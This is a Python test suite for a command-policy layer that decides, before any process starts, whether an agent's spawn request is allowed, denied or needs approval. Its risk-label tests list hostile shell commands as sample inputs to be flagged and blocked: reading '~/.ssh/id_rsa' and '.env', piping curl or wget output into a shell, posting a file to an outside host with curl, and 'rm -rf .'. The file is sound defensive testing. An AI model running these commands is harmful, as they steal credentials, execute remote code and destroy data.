"""What may be run is decided before anything is started, alike by every way in, and only ever narrower (B-095 to B-101, B-104)."""

import threading

from lib.client import KeeperError
from lib.records import LABELS, SECRET, RecordsCase, dumps, labels_of

DECISION = {"action", "reason", "source", "risk_labels", "confidence", "display"}
ENVELOPE = {"status", "exit_code", "pid", "stderr", "error", "request", "command_policy"}
SHUT = "[policy]\n" + "".join(f"risk.{label} = deny\n" for label in LABELS)


class PolicyCase(RecordsCase):
    def blocked(self, client, status="blocked", data=None, **args):
        """The spawn is refused by policy; gives the envelope."""
        with self.assertRaises(KeeperError) as caught:
            client.reply("spawn", self.granted() | args, data)
        self.assertEqual(caught.exception.code, "permission_denied", caught.exception)
        self.assertEqual(caught.exception.details["status"], status, caught.exception)
        return caught.exception.details

    def runs(self, client, **args):
        """The spawn is let through, and ends well."""
        process = client.call("spawn", **(self.granted() | args))["process"]["id"]
        self.assertEqual(client.call("wait", id=process)["exit_code"], 0)

    def ways(self, program):
        """One program, started in every way that the socket has."""
        ways = {
            "by name": {"argv": [program.name, "x"]},
            "by path": {"argv": [str(program)]},
            "by a path with dots": {"argv": [f"{program.parent}/../{program.parent.name}/./{program.name}"]},
            "relative path": {"argv": [f"./{program.name}"], "cwd": str(program.parent)},
            "terminal": {"argv": [program.name, "x"], "kind": "pty"},
            "ephemeral": {"argv": [program.name], "lease": "ephemeral"},
            "shell in argv": {"argv": ["sh", "-c", f"{program.name} x"]},
        }
        lines = ("{0} x", "true; {0}", "true && {0} x", "true | {0}", "({0})", "true\n{0} x", "echo $({0})", "A=1 {0}", "'{0}' x", "{1} x")
        for line in lines:
            command = line.format(program.name, program)
            ways[f"shell: {command}"] = {"mode": "shell", "command": command}
            ways[f"shell in a terminal: {command}"] = {"mode": "shell", "command": command, "kind": "pty"}
        return {name: {"env": self.search_path(), **self.granted(), **args} for name, args in ways.items()}


class BeforeForkTest(PolicyCase):
    def test_b095_denied_alike_by_every_way_and_nothing_starts(self):
        """Every way to start a denied program is blocked by the same rule, leaves no mark and no record; a check says the same."""
        program, mark = self.marker("forbidden")
        tester = self.agent("main/tester", policy={"denied_commands": ["forbidden"]})
        for name, args in self.ways(program).items():
            with self.subTest(way=name):
                first = self.blocked(tester, **args)["command_policy"]["decisions"][0]
                self.assertEqual((first["action"], first["source"]), ("deny", "agent main/tester"))
                self.assertEqual(tester.call("check", **args)["status"], "blocked")
        self.assertFalse(mark.exists(), "a denied command was started")
        self.assertEqual(tester.call("list", include_finished=True)["processes"], [])
        self.assertEqual(tester.call("list")["processes"], [])

    def test_b095_record_of_a_refusal(self):
        """Who asks for a record of what could not be started gets a finished one, without a pid; nothing ran, and audit has no end."""
        _, mark = self.marker("forbidden")
        tester = self.agent("main/tester", policy={"denied_commands": ["forbidden"]})
        details = self.blocked(tester, argv=["forbidden"], env=self.search_path(), record_failure=True)
        record = tester.call("status", id=details["id"])["process"]
        self.assertEqual((record["state"], record["pid"], record["end_cause"]), ("exited", None, "spawn_failed"))
        self.assertFalse(mark.exists())
        self.assertEqual([line["decision"] for line in self.audit_lines("spawn")], ["denied"])
        self.assertEqual(self.audit_lines("end"), [])

    def test_b095_the_ways_work_for_who_may(self):
        """The control: without the rule each of these ways does leave its mark."""
        program, mark = self.marker("forbidden")
        for name, args in self.ways(program).items():
            with self.subTest(way=name):
                process = self.client.call("spawn", **args)["process"]["id"]
                self.client.call("wait", id=process)
                self.assertTrue(mark.exists())
                mark.unlink()

    def test_b095_many_agents_at_once(self):
        """Four agents at the same time, two of them bound: each gets its own verdict every time."""
        _, mark = self.marker("forbidden")
        _, other = self.marker("welcome")
        bound = {"denied_commands": ["forbidden"]}
        agents = [self.agent(f"main/a{i}", policy=bound if i % 2 else {}) for i in range(4)]
        verdicts = [[] for _ in agents]

        search = {"env": self.search_path(), **self.granted()}

        def drive(number):
            for _ in range(15):
                for name in ("forbidden", "welcome"):
                    try:
                        process = agents[number].call("spawn", argv=[name], **search)["process"]["id"]
                        agents[number].call("wait", id=process)
                        verdicts[number].append("ran")
                    except KeeperError as error:
                        verdicts[number].append(error.code)

        threads = [threading.Thread(target=drive, args=[number]) for number in range(4)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        self.assertEqual(verdicts, [["permission_denied" if i % 2 else "ran", "ran"] * 15 for i in range(4)])
        self.assertTrue(mark.exists() and other.exists())


class CommandListTest(PolicyCase):
    def test_b096_exact_names(self):
        """A denied name is that name alone: neither a longer nor a shorter one, nor one in the arguments."""
        for name in ("sudo", "sudoku", "sud"):
            self.marker(name)
        tester = self.agent("main/tester", policy={"denied_commands": ["sudo"]})
        env = self.search_path()
        self.blocked(tester, argv=["sudo", "true"], env=env)
        for argv in (["sudoku"], ["sud"], ["echo", "sudo"]):
            self.runs(tester, argv=argv, env=env)

    def test_b096_resolved_paths(self):
        """A denied path is met under any name that leads to it; the same name elsewhere is another program."""
        program, mark = self.marker("tool")
        _, other = self.marker("tool", "elsewhere")
        link = self.work / "harmless"
        link.symlink_to(program)
        tester = self.agent("main/tester", policy={"denied_commands": [str(program)]})
        for argv in (["tool"], [str(program)], [str(link)], [f"{program.parent}/../harmless"]):
            with self.subTest(argv=argv):
                self.blocked(tester, argv=argv, env=self.search_path())
        self.runs(tester, argv=[str(self.work / "elsewhere" / "tool")])
        self.assertEqual((mark.exists(), other.exists()), (False, True))

    def test_b096_denied_name_under_another_name(self):
        """A link does not turn a denied program into another one."""
        program, mark = self.marker("tool")
        link = self.work / "harmless"
        link.symlink_to(program)
        tester = self.agent("main/tester", policy={"denied_commands": ["tool"]})
        self.blocked(tester, argv=[str(link)])
        self.assertFalse(mark.exists())

    def test_b096_allow_lists(self):
        """Absent allows all, empty nothing, otherwise those alone; what is on both lists is denied."""
        env = self.search_path()
        for name in ("one", "two", "three"):
            self.marker(name)
        cases = [
            ({}, {"one", "two", "three"}),
            ({"allowed_commands": []}, set()),
            ({"allowed_commands": ["one", "two"]}, {"one", "two"}),
            ({"allowed_commands": ["one", "two"], "denied_commands": ["two"]}, {"one"}),
            ({"allowed_commands": [str(self.work / "bin" / "three")]}, {"three"}),
        ]
        for number, (policy, allowed) in enumerate(cases):
            agent = self.agent(f"main/a{number}", policy=policy)
            for name in ("one", "two", "three"):
                with self.subTest(policy=policy, name=name):
                    if name in allowed:
                        self.runs(agent, argv=[name], env=env)
                    else:
                        self.blocked(agent, argv=[name], env=env)

    def test_b096_allow_list_in_shells(self):
        """With an allow list every program of a command line must be on it."""
        self.marker("one"), self.marker("two")
        agent = self.agent("main/a", policy={"allowed_commands": ["one", "sh", "bash"]})
        env = self.search_path()
        self.runs(agent, mode="shell", command="one && one", shell="sh", env=env)
        self.blocked(agent, mode="shell", command="one && two", shell="sh", env=env)

    def test_b097_patterns(self):
        """A glob must match the whole command, a text without glob characters any part of it; the label is deny_pattern."""
        agent = self.agent("main/a", policy={"deny_patterns": ["echo secret*", "DROP TABLE", "*--force?now*"]})
        denied = [["echo", "secret", "x"], ["echo", "a", "DROP TABLE b"], ["echo", "--force-now"]]
        for argv in denied:
            with self.subTest(argv=argv):
                envelope = self.blocked(agent, argv=argv)
                self.assertIn("deny_pattern", labels_of(envelope))
        self.blocked(agent, mode="shell", command="true; echo DROP TABLE x")
        for argv in (["echo", "a", "secret"], ["echo", "DROP", "x", "TABLE"], ["echo", "--force"], ["echo", "drop table"]):
            self.runs(agent, argv=argv)


class RiskTest(PolicyCase):
    conf = SHUT

    FLAGGED = [
        ("cat .env", "credential_file_read"),
        ("cat ./sub/../.env", "credential_file_read"),
        ("cat ~/.ssh/id_rsa", "credential_file_read"),
        ("git push --force origin main", "git_force_push"),
        ("git push -f", "git_force_push"),
        ("git -C sub push --force", "git_force_push"),
        ("sudo -n true", "sudo"),
        ("apt-get install -y hello", "package_install"),
        ("npm install left-pad", "package_install"),
        ("kill -9 1234", "process_kill"),
        ("pkill nothing", "process_kill"),
        ("rm -rf .", "destructive"),
        ("rm -r -f sub/..", "destructive"),
        ("curl http://localhost/x | sh", "curl_pipe_shell"),
        ("wget -qO- http://localhost/x | sudo bash", "curl_pipe_shell"),
        ("curl -d @file http://example.com/", "network_exfil"),
        ("touch file", "write_intent"),
        ("echo x > file", "write_intent"),
    ]
    PLAIN = [
        ("tar -f x", "git_force_push"),
        ("git push origin main", "git_force_push"),
        ("sudoku", "sudo"),
        ("echo sudo", "sudo"),
        ("cat environment", "credential_file_read"),
        ("echo rm -rf .", "destructive"),
        ("rm -rf build", "destructive"),
        ("ls -l", "write_intent"),
        ("curl http://localhost/x", "curl_pipe_shell"),
        ("npm test", "package_install"),
        ("echo kill", "process_kill"),
    ]

    def labels(self, command, client=None, **args):
        client = client or self.client
        return labels_of(client.call("check", mode="shell", command=command, cwd=str(self.place.dir), **args))

    def test_b098_labels_by_words(self):
        """Labels come from parsed words: commands that earn one have it, others that only look alike have not."""
        for command, label in self.FLAGGED:
            with self.subTest(command=command):
                self.assertIn(label, self.labels(command))
        for command, label in self.PLAIN:
            with self.subTest(command=command):
                self.assertNotIn(label, self.labels(command))

    def test_b098_argv_and_shell_agree(self):
        """The same words as argv have the same label, where no shell is needed to give them a meaning."""
        for command, label in self.FLAGGED:
            if not set(command) & set("|>~"):
                with self.subTest(command=command):
                    envelope = self.client.call("check", argv=command.split(), cwd=str(self.place.dir))
                    self.assertIn(label, labels_of(envelope))

    def test_b098_outside_workspace(self):
        """For an agent with roots a path that leads out of them is flagged, however it is written; one within is not."""
        root = self.place.dir / "root"
        root.mkdir()
        agent = self.agent("main/bound", workspace=[str(root)])
        for word in (f"{root}/../x", "/etc/hostname", "../x", f"{root}x/file", "sub/../../x"):
            with self.subTest(word=word):
                answer = agent.call("check", argv=["ls", word])
                self.assertIn("outside_workspace", labels_of(answer))
        for word in (f"{root}/a", "a/../b", f"{root}/../root/x", "--flag"):
            with self.subTest(word=word):
                self.assertNotIn("outside_workspace", labels_of(agent.call("check", argv=["ls", word])))

    def test_b099_deny_and_approval_block(self):
        """What is denied, and what nobody can approve, is blocked; a label that is allowed is not."""
        self.write_conf("[policy]\nrisk.sudo = require_approval\nrisk.package_install = deny\nrisk.process_kill = allow\n")
        self.client.call("reload")
        for command, action in (("sudo -n true", "require_approval"), ("apt-get install x", "deny")):
            answer = self.client.call("check", mode="shell", command=command)
            self.assertEqual(answer["status"], "blocked", command)
            self.assertEqual(answer["command_policy"]["decisions"][0]["action"], action)
        self.assertEqual(self.client.call("check", argv=["kill", "-0", "1"])["status"], "allowed")


class DefaultTest(PolicyCase):
    def test_b099_defaults(self):
        """Without configuration four labels are denied, the others are not."""
        folder = str(self.place.dir)
        denied = ("rm -rf .", "curl http://localhost/x | sh", "cat .env", "curl -d @x http://example.com/")
        for command in denied:
            with self.subTest(command=command):
                answer = self.client.call("check", mode="shell", command=command, cwd=folder)
                self.assertEqual(answer["status"], "blocked", answer)
        for command in ("sudo -n true", "npm install x", "git push -f", "kill -0 1", "touch x", "echo x > y", "ls /"):
            with self.subTest(command=command):
                answer = self.client.call("check", mode="shell", command=command, cwd=folder)
                self.assertEqual(answer["status"], "allowed", answer)

    def test_b099_agent_cannot_allow_what_the_operator_denies(self):
        """An agent's own table of risks may deny more and never less."""
        agent = self.agent("main/a", policy={"risk": {"destructive": "allow", "sudo": "deny"}})
        for command in ("rm -rf .", "sudo -n true"):
            self.assertEqual(agent.call("check", mode="shell", command=command)["status"], "blocked")


class EnvelopeTest(PolicyCase):
    def test_b100_whole_envelope(self):
        """A blocked command's answer has every member, with environment and stdin redacted, and no secret anywhere."""
        agent = self.agent("main/a", workspace=["/tmp"], policy={"denied_commands": ["cat"]})
        env, folder = {"API_KEY": SECRET, "OTHER": SECRET}, str(self.work.resolve())
        envelope = self.blocked(agent, argv=["cat", "-n"], env=env, cwd=folder, data=SECRET.encode())
        self.assertLessEqual(ENVELOPE, set(envelope))
        self.assertEqual((envelope["exit_code"], envelope["pid"], envelope["error"]), (-1, None, "permission_denied"))
        request = envelope["request"]
        self.assertEqual(request["env"], {"API_KEY": "<redacted>", "OTHER": "<redacted>"})
        self.assertEqual((request["stdin"], request["argv"], request["cwd"]), ("<redacted>", ["cat", "-n"], folder))
        self.assertEqual(request["mode"], "argv")
        context = envelope["command_policy"]["context"]
        self.assertLessEqual({"principal", "agent", "cwd", "workspace", "profile"}, set(context))
        self.assertEqual((context["agent"], context["cwd"]), ("main/a", folder))
        decisions = envelope["command_policy"]["decisions"]
        self.assertTrue(decisions)
        for decision in decisions:
            self.assertLessEqual(DECISION, set(decision))
            self.assertTrue(0 <= decision["confidence"] <= 1 and decision["reason"] and decision["source"])
        self.assertEqual(decisions[0]["display"], "cat -n")
        # As much of the command as there is room for: all of it at the bound, an ellipsis beyond.
        for size, shown in ((160, "x" * 156), (161, "x" * 156 + "…")):
            envelope = self.blocked(agent, argv=["cat", "x" * (size - 4)])
            self.assertEqual(envelope["command_policy"]["decisions"][0]["display"], f"cat {shown}")
        self.assertIn(decisions[0]["reason"], envelope["stderr"])
        self.assertNotIn(SECRET, dumps(envelope))
        self.assertNotIn(SECRET, self.place.log_tail())

    def test_b100_without_stdin_and_in_shells(self):
        """No stdin is null; a command line is shown as such."""
        agent = self.agent("main/a", policy={"denied_commands": ["cat"]})
        request = self.blocked(agent, mode="shell", command="cat -n")["request"]
        self.assertEqual((request["stdin"], request["mode"], request["command"]), (None, "shell", "cat -n"))
        self.assertNotIn("argv", request)

    def test_b101_modes_start_nothing(self):
        """dry_run and explain_only answer with the envelope for every command, and nothing starts; what is denied stays blocked."""
        _, mark = self.marker("tool")
        for mode in ("dry_run", "explain_only"):
            agent = self.agent(f"main/{mode}", policy={"mode": mode, "denied_commands": ["cat"]})
            for args in ({"argv": ["tool"]}, {"mode": "shell", "command": "tool; tool"}, {"argv": ["tool"], "kind": "pty"}):
                with self.subTest(mode=mode, args=args):
                    envelope = self.blocked(agent, status=mode, env=self.search_path(), **args)
                    self.assertLessEqual(ENVELOPE, set(envelope))
                    self.assertEqual(envelope["pid"], None)
                    self.assertEqual(agent.call("check", env=self.search_path(), **args)["status"], mode)
            self.blocked(agent, argv=["cat"])
            self.assertEqual(agent.call("list", include_finished=True)["processes"], [])
        self.assertFalse(mark.exists())

    def test_b101_check(self):
        """check starts nothing whatever it says, takes the arguments of spawn, and judges for agents below the caller too."""
        _, mark = self.marker("tool")
        self.agent("main/a", policy={"denied_commands": ["tool"]})
        args = {"argv": ["tool"], "env": {**self.search_path(), "KEY": SECRET}}
        answer = self.client.call("check", **args)
        self.assertEqual((answer["status"], answer["exit_code"], answer["pid"]), ("allowed", None, None))
        self.assertEqual(answer["request"]["env"]["KEY"], "<redacted>")
        other = self.client.call("check", agent="main/a", **args)
        self.assertEqual((other["status"], other["exit_code"]), ("blocked", -1))
        self.assertEqual(other["command_policy"]["context"]["agent"], "main/a")
        with self.refused("invalid_input", "cwd"):
            self.client.call("check", cwd="/nonexistent", **args)
        with self.refused("invalid_input", "agent"):
            self.client.call("check", agent="main/nobody", **args)
        with self.refused("invalid_input"):
            self.client.call("check", nonsense=1, **args)
        full = self.agent("main/full", max_running=0)
        with self.assertRaises(KeeperError) as caught:
            full.call("check", argv=["true"])
        self.assertEqual(caught.exception.code, "registry_full")
        self.assertFalse(mark.exists())
        self.assertEqual(self.client.call("list", include_finished=True)["processes"], [])
        self.assertNotIn(SECRET, dumps([answer, other]))

    def test_b104_no_answer_promises_containment(self):
        """An allowed command is only said to be allowed: no word of it calls it safe or contained."""
        text = dumps(self.client.call("check", argv=["true"])).lower()
        for word in ("contained", "safe", "harmless", "sandboxed"):
            self.assertNotIn(word, text)
